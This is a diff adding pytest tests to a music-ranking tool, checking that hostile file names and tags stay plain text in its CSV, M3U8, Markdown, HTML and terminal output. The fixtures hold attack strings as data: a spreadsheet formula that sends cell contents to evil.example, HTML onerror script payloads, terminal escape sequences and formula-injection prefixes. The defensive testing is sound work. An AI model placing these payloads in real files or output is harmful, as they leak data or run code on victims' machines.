@@ -221,3 +221,107 @@ def test_nan_weights_are_refused(tmp_path):
 
 def test_the_good_model_still_loads(good_model):
     assert checkpoint.load(good_model).mcfg.arch == "cnn_lstm"
+
+
+# ---- hostile names and tags ----------------------------------------------------------------------------------------
+
+NAMES = ["cost $5 and $6.wav", "100$ bill_$ remix.wav", "line\u2028sep.wav", "para\u2029sep.wav", "nel\x85x.wav",
+         "esc\x1b[31mred.wav", "<img src=x onerror=alert(1)>.wav", "pipe | bar.wav"]
+TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "=1+2", "@SUM(A1:A9)", "+1", "-1",
+          "<img src=x onerror=alert(2)>", "a | b\nc", "\x1b]0;pwned\x07title"]
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """A library whose file names, folder name and tags hold every character that broke an output once."""
+    import soundfile as sf
+    from conftest import tag
+
+    lib = tmp_path / "Ca$h_$_Money"
+    lib.mkdir()
+    for i, (name, title) in enumerate(zip(NAMES, TITLES)):
+        sf.write(lib / name, tone(220 + 40 * i, 3.0, 8000), 8000)
+        tag(lib / name, artist=f"Artist {i}", title=title)
+    return lib
+
+
+@pytest.fixture(scope="module")
+def default_model(tmp_path_factory):
+    """An untrained small model on the default features, which map and filters use."""
+    from pers_rec.features import FeatureConfig
+
+    path = tmp_path_factory.mktemp("model") / "default.keras"
+    checkpoint.save(path, saved_model(FeatureConfig(), filters=(8, 8, 8, 8), lstm_units=8, dense_units=8))
+    return path
+
+
+def test_hostile_names_and_tags_stay_text_everywhere(hostile, default_model, tmp_path, capsys):
+    import pandas as pd
+
+    good_model = default_model
+    from pers_rec.playlists import read_labelled
+
+    out = tmp_path / "out"
+    csv_path, m3u = out / "r.csv", out / "top.m3u8"
+    code = main(["rank", str(hostile), "--model", str(good_model), "--out", str(csv_path), "--m3u", str(m3u),
+                 "--min-track-s", "0", "--cache", str(tmp_path / "cache"), "--quiet"])
+    printed = capsys.readouterr()
+    assert code == EXIT_OK, printed.err
+    for stream in (printed.out, printed.err):  # nothing a terminal would act on
+        assert not any(c in stream for c in "\x1b\x07\x85\u2028\u2029")
+    df = pd.read_csv(csv_path, keep_default_na=False)
+    assert sorted(os.path.basename(p) for p in df["path"]) == sorted(NAMES)  # the path column is left as it is
+    for cell in df["title"]:  # every cell a spreadsheet would evaluate starts with a quote
+        assert not cell.startswith(("=", "+", "-", "@")), cell
+    assert set(df["title"].str.lstrip("'")) == set(TITLES)
+    # the M3U8 reads back, every hostile name included, as train --likes would read it
+    assert sorted(p for p, _ in read_labelled(m3u, 1)) == sorted(os.path.realpath(hostile / n) for n in NAMES)
+    m3u.read_bytes().decode("utf-8")
+
+    png = out / "why.png"
+    assert main(["explain", str(hostile / NAMES[1]), "--model", str(good_model), "--out", str(png), "--no-cache"]) == 0
+    assert png.stat().st_size > 1000
+    html_out = out / "map.html"
+    assert main(["map", str(hostile), "--model", str(good_model), "--out", str(html_out), "--no-cache", "--quiet"]) == 0
+    assert html_out.with_suffix(".png").exists()
+
+    fdir = out / "filters"
+    assert main(["filters", str(hostile), "--model", str(good_model), "--out", str(fdir), "--top", "8", "--no-cache",
+                 "--quiet"]) == 0
+    index = (fdir / "index.md").read_text(encoding="utf-8")
+    assert "<img" not in index and "\x1b" not in index and "\u2028" not in index
+    for line in index.splitlines():  # every table row is whole: it starts and ends with a cell border
+        if line.startswith("|"):
+            assert line.endswith("|") and line.count(" | ") == line.replace("\\|", "").count(" | "), line
+    for playlist in fdir.glob("*.m3u8"):
+        text = playlist.read_bytes().decode("utf-8")  # valid UTF-8, or this raises
+        assert sorted(p for p, _ in read_labelled(playlist, 1)) == sorted(os.path.realpath(hostile / n) for n in NAMES)
+        assert "\x1b" not in text
+
+
+def test_figure_text_is_never_math(tmp_path):
+    from pers_rec.plots import figure
+
+    with figure(tmp_path / "t.png", figsize=(2, 2)) as fig:
+        title = fig.suptitle("cost $5 and $6.wav")
+    assert title.get_parse_math() is False and (tmp_path / "t.png").stat().st_size > 0
+
+
+def test_outputs_that_would_overwrite_inputs_are_refused(tmp_path, lib, capsys):
+    likes = tmp_path / "taste.json"
+    likes.write_text("[]")
+    code = main(["train", "--likes", str(likes), "--library", str(lib), "--model", str(tmp_path / "taste.keras")])
+    assert code == EXIT_USAGE and "--model's report" in capsys.readouterr().err and likes.read_text() == "[]"
+
+
+def test_a_name_at_the_length_limit_is_written(tmp_path):
+    from pers_rec.fileio import check_output, write_text
+
+    name = "x" * 251 + ".csv"  # 255 bytes: fine for the file system, too long with a temporary prefix and suffix
+    check_output(tmp_path / name, (".csv",), "--out")
+    write_text(tmp_path / name, "a\n")
+    assert (tmp_path / name).read_text() == "a\n"
+    from pers_rec.errors import ParameterError
+
+    with pytest.raises(ParameterError, match="longer than the 255 bytes"):
+        check_output(tmp_path / ("x" * 252 + ".csv"), (".csv",), "--out")
